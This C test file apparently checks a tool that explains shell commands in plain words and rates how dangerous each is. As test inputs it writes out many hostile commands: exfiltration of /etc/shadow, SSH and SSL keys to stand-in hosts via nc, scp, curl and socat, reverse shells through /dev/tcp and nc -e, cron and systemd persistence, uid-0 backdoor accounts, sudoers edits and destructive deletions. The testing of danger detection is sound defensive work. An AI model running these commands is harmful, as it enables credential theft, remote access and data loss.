/* The dangerous detail written on the line is said in the explanation
 * (docs/RULES.md, "Words for the escort"): which data a folder holds, that
 * uid 0 is the administrator, that secrets go to another computer, which one
 * of several actions the line's words decide; and the report says each thing
 * once, with one answer to "can it be undone".
 *   test-explain-detail RULES_DIR */
#include "explain-check.h"

/* What a place holds, and who an account becomes. */
static void the_detail(void)
{
	SAYS("rm -rf /var/lib/postgresql/14/main", "where the PostgreSQL database keeps its data");
	RATED("rm -rf /var/lib/postgresql/14/main", LEVEL_CRITICAL);
	RATED("sudo rm -rf /var/lib/docker/volumes/app_data", LEVEL_CRITICAL);
	SAYS("rm -rf /var/lib/mongodb/*", "where the MongoDB database keeps its data");
	RATED("rm /var/lib/postgresql/14/main/log/postgresql.log", LEVEL_HIGH);
	SAYS("useradd -m -o -u 0 -g 0 backup2", "second administrator account");
	RATED("useradd -m -o -u 0 -g 0 backup2", LEVEL_CRITICAL);
	RATED("usermod -u 0 -o nagios", LEVEL_CRITICAL);
	RATED("useradd -m -u 1050 alice", LEVEL_HIGH);
	SAYS("usermod -aG sudo intern",
	     "the group sudo, where its members may act as the administrator");
	SAYS("cat ~/.ssh/id_rsa.pub", "a public key, not a secret");
}

/* Secrets that leave the machine, and where to. */
static void secrets_out(void)
{
	SAYS("tar czf - /etc/ssl/private | nc 203.0.113.7 4444",
	     "Sends secret files out of this machine, to 203.0.113.7: /etc/ssl/private (the "
	     "server's "
	     "private encryption keys)");
	RATED("tar czf - /etc/ssl/private | nc 203.0.113.7 4444", LEVEL_CRITICAL);
	RATED("scp /root/.ssh/id_rsa attacker@198.51.100.9:/tmp/", LEVEL_CRITICAL);
	SAYS("scp ~/.ssh/id_ed25519 ops@203.0.113.50:", "a private login key");
	RATED("rsync -a /home/deploy/.ssh/ backup@192.0.2.9:/keys/", LEVEL_CRITICAL);
	SAYS("tar czf - /var/www | nc 10.0.0.5 9000",
	     "Sends /var/www (the website's files) out of this machine, to");
	RATED("tar czf - /var/www | nc 10.0.0.5 9000", LEVEL_HIGH);
	RATED("scp backup@10.0.0.5:/root/.ssh/id_rsa /tmp/", LEVEL_HIGH);
	NEVER_SAYS("tar czf - /etc/ssl/private | nc 203.0.113.7 4444", "Looks at the network");
	SAYS("zip -r /tmp/keys.zip /etc/ssh && curl -T /tmp/keys.zip ftp://198.51.100.20/",
	     "Sends secret files out of this machine, to ftp://198.51.100.20/: /tmp/keys.zip and "
	     "/etc/ssh");
	RATED("curl --data-binary @/etc/shadow http://198.51.100.2/", LEVEL_CRITICAL);
	RATED("curl -T /var/backups/db.sql https://files.example.net/", LEVEL_HIGH);
	NEVER_SAYS("chmod 600 ~/.ssh/id_rsa", "Reads secret material");
	NEVER_SAYS("ls -l ~/.ssh/id_rsa", "Reads secret material");
	RATED("socat - TCP:203.0.113.9:443 < /etc/shadow", LEVEL_CRITICAL);
	NEVER_SAYS("nc 198.51.100.3 443 -e /bin/sh", "Sends the file /bin/sh");
	RATED("adduser --uid 0 svc", LEVEL_CRITICAL);
	RATED("gsutil cp ~/.ssh/id_rsa gs://some-bucket/", LEVEL_CRITICAL);
	NEVER_SAYS("aws s3 cp /etc/shadow s3://x-bucket/",
		   "Reads secret material: /etc/shadow (the "
		   "accounts' password hashes), s3://");
	RATED("rm -rf /var/lib/docker", LEVEL_CRITICAL);
	SAYS("mv /var/lib/mysql /var/lib/mysql.old", "no longer finds it");
	RATED("mv a.txt b.txt", LEVEL_LOW);
	SAYS("tar -cJf - /home | ssh u@203.0.113.40 'cat > h.txz'",
	     "Sends /home (every user's personal folders) out of this machine, to u@203.0.113.40");
	SAYS("kubectl drain node-3 --ignore-daemonsets", "Moves every application off node-3");
}

/* The line's words decide which of several actions happens. */
static void one_action(void)
{
	NEVER_SAYS("aws ec2 terminate-instances --instance-ids i-0abc",
		   "Deletes, removes or resets");
	SAYS("aws ec2 terminate-instances --instance-ids i-0abc", "Deletes for good (terminates)");
	SAYS("docker volume rm pgdata", "Deletes pgdata");
	SAYS("passwd -d root", "Removes the password of root");
	SAYS("passwd -l deploy", "Locks the password of deploy");
	SAYS("userdel -r olduser", "Deletes the user account olduser");
	SAYS("groupadd ops", "Creates the group ops");
	SAYS("journalctl --vacuum-time=1s", "nearly the whole log");
	NEVER_SAYS("journalctl --vacuum-time=30d", "nearly the whole log");
	SAYS("rsync -avz --delete /srv/empty/ /var/www/html/", "an exact copy of /srv/empty/");
}

/* Code said in words: a condition that is always true limits nothing. */
static void code_in_words(void)
{
	const char *upd = "mysql -u root -e \"UPDATE users SET password_hash='x' WHERE 1=1\"";

	SAYS(upd, "every row: its condition \u201cWHERE 1=1\u201d is always true");
	SAYS(upd, "it sets password_hash to \u201c'x'\u201d");
	RATED(upd, LEVEL_CRITICAL);
	RATED("psql -c \"UPDATE users SET is_admin=true\"", LEVEL_CRITICAL);
	RATED("mysql -e \"update customers set email='x' where TRUE\"", LEVEL_CRITICAL);
	RATED("psql -c 'UPDATE accounts SET balance=0 WHERE id=4'", LEVEL_HIGH);
	SAYS("psql -c \"DELETE FROM sessions WHERE 'a'='a'\"", "is always true");
	NEVER_SAYS("psql -c 'DELETE FROM t WHERE x=y'", "always true");
	SAYS("mongosh --eval 'db.getSiblingDB(\"app\").dropDatabase()'",
	     "deletes the whole database app with all its collections");
	SAYS("mongosh --eval 'db.getSiblingDB(\"billing\").orders.drop()'",
	     "deletes the collection (table) orders");
	SAYS("tar czf /backup/etc.tgz /etc", "Packs /etc (the system's settings) into one archive "
					     "file: /backup/etc.tgz");
	SAYS("tar -xzf /tmp/r.tgz -C /srv/app",
	     "Unpacks the archive file /tmp/r.tgz into /srv/app");
	SAYS("tar tzf backup.tgz", "Lists what is inside the archive file backup.tgz");
	NEVER_SAYS("tar czf /backup/etc.tgz /etc", "czf");
	SAYS("mkdir -p /tmp/work", "Creates the folder /tmp/work");
	SAYS("docker system prune -a --volumes -f",
	     "every volume (stored data) no container uses, with its data");
	NEVER_SAYS("docker system prune -a --volumes -f", "undo: partly");
	SAYS("terraform state rm module.db.aws_db_instance.main",
	     "Makes Terraform forget module.db.aws_db_instance.main");
	SAYS("chown -R nobody:nogroup /home",
	     "Makes nobody (group nogroup) the owner of /home (every user's personal");
	SAYS("cat /var/www/app/.env", "usually with its passwords");
	SAYS("terraform plan", "Previews, changing nothing, what a change would do");
	NEVER_SAYS("terraform destroy -target=aws_db_instance.main",
		   "every piece of infrastructure");
	SAYS("terraform destroy -target=aws_db_instance.main",
	     "aws_db_instance.main; the rest stays");
	SAYS("usermod -L bob", "Locks (no password login) the user account bob");
	SAYS("gcloud compute instances stop web-1", "Stops web-1 in the Google cloud account");
	SAYS("gcloud compute instances list", "Lists what is in the Google cloud account");
}

/* What is written into a file that runs later runs then, not now. */
static void runs_later(void)
{
	const char *cron =
	    "(crontab -l; echo '* * * * * curl -s http://203.0.113.7/x.sh | bash') | "
	    "crontab -";

	SAYS(cron, "Written into the account's scheduled jobs (crontab), to run every minute from "
		   "then on, not now: downloads");
	NEVER_SAYS(cron, "at once");
	NEVER_SAYS(cron, "it changes nothing");
	SAYS("(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/.u/run.sh') | crontab -",
	     "every 5 minutes");
	SAYS("echo '@reboot root nc -e /bin/sh 198.51.100.3 443' > /etc/cron.d/sync",
	     "at every start of the machine");
	SAYS("echo '30 2 * * * root /usr/local/bin/backup' > /etc/cron.d/backup",
	     "every day at 02:30");
	SAYS("crontab -r", "Deletes all of the account's scheduled jobs");
	SAYS("printf '[Service]\\nExecStart=/bin/bash -c \"bash -i >& /dev/tcp/198.51.100.8/9001 "
	     "0>&1\"\\n' > /etc/systemd/system/upd.service",
	     "to run whenever the service starts from then on, not now");
	RATED("crontab -l 2>/dev/null", LEVEL_INFO);
}

/* Truer statements and levels. */
static void true_statements(void)
{
	RATED("sudo -l", LEVEL_INFO);
	NEVER_SAYS("sudo -l", "Opens a shell");
	RATED("sudo -i", LEVEL_HIGH);
	NEVER_SAYS("ssh -R 8080:localhost:22 user@203.0.113.7 -N", "Runs -N");
	SAYS("ssh -R 8080:localhost:22 user@203.0.113.7 -N", "Opens a way in from outside");
	RATED("ssh -N -L 5432:db.internal:5432 bastion", LEVEL_MEDIUM);
	RATED("ssh -R 8080:localhost:22 user@203.0.113.7 -N", LEVEL_HIGH);
	SAYS("id deploy", "Shows the account deploy and its groups");
	NEVER_SAYS("kubectl exec -it deploy/api -- cat /var/run/secrets/kubernetes.io/"
		   "serviceaccount/token",
		   "Reads secret material: deploy/api");
	SAYS("kubectl exec -it deploy/api -- cat "
	     "/var/run/secrets/kubernetes.io/serviceaccount/token",
	     "the application's access key to the Kubernetes cluster");
	SAYS("gcloud projects add-iam-policy-binding acme-prod "
	     "--member=user:tmp.contractor@gmail.com "
	     "--role=roles/owner",
	     "the account user:tmp.contractor@gmail.com");
	RATED("gcloud projects add-iam-policy-binding acme-prod "
	      "--member=user:tmp.contractor@gmail.com "
	      "--role=roles/owner",
	      LEVEL_CRITICAL);
	NEVER_SAYS("aws iam create-access-key --user-name deploy-bot",
		   "keys, permissions or open ports");
	SAYS("docker run -v /:/host --privileged -it alpine chroot /host sh",
	     "can act as the administrator (root) of this whole machine");
}

/* Each thing said once, one answer to "can it be undone". */
static void said_once(void)
{
	ONCE("systemctl stop auditd && systemctl disable auditd", "Stops a running service");
	SAYS("systemctl stop auditd && systemctl disable auditd",
	     "It also turns off for good (it no longer starts with the machine)");
	SAYS("aws s3 rm s3://prod-customer-uploads --recursive", "(a storage bucket: files kept in "
								 "the Amazon cloud)");
	ONCE("history -c && unset HISTFILE", "Clears or turns off the shell's command history");
	NEVER_SAYS("kubectl delete namespace payments", "undo: partly");
	NEVER_SAYS("terraform destroy -auto-approve", "undo: partly");
	NEVER_SAYS("chmod -R 777 /etc", "undo: yes, with chmod");
	NEVER_SAYS("echo 'deploy ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
		   "Changes the system configuration file /etc/sudoers");
	NEVER_SAYS("echo '0 3 * * * root /usr/local/bin/rotate.sh' > /etc/cron.d/rotate",
		   "part of the system's configuration");
	SAYS("echo '0 3 * * * root /usr/local/bin/rotate.sh' > /etc/cron.d/rotate",
	     "to run every day at 03:00 from then on");
}

int main(int argc, char **argv)
{
	static void (*const groups[])(void) = {the_detail,    secrets_out, one_action,
					       code_in_words, runs_later,  true_statements,
					       said_once,     NULL};

	return explain_check_main(argc, argv, groups);
}
